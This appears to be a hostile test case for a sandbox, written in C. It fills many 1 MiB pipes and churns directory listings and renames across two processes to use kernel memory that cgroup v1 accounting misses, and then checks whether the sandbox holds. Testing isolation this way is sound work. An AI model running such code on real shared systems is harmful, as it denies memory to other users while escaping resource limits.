/* On v1 what is counted as the kernel's for a run has pages of pipes in it, and the machine's numbers
 * have not: who fills pipes may take as much of what is not counted without being seen. */
#include "hostile.h"

static void fill_pipes(int megabytes)
{
    static char bytes[1 << 20];
    int ends[2];
    while (megabytes-- > 0 && pipe2(ends, O_NONBLOCK) == 0) {
        int size = fcntl(ends[1], F_SETPIPE_SZ, 1 << 20);
        if (size > 0 && write(ends[1], bytes, (size_t)size) < 0)
            return;
    }
}

static void keep_listings(void)
{
    static char entries[1 << 16];
    char name[160];
    memset(name, 'n', sizeof name);
    for (int i = 0; i < 2000; i++) {
        snprintf(name + 140, 12, "%d", i);
        close(open(name, O_CREAT | O_WRONLY, 0600));
    }
    close(open("one", O_CREAT | O_WRONLY, 0600));
    for (int i = 0; i < 1000; i++) {
        int fd = open("/box", O_RDONLY | O_DIRECTORY);
        if (fd < 0 || syscall(SYS_getdents64, fd, entries, sizeof entries) <= 0)
            break;
        rename(i % 2 ? "two" : "one", i % 2 ? "one" : "two");
    }
}

int main(void)
{
    fill_pipes(48);
    if (fork() == 0) {
        keep_listings();
        pause();
    }
    keep_listings();
    sleep(1);
    HELD();
    return 0;
}
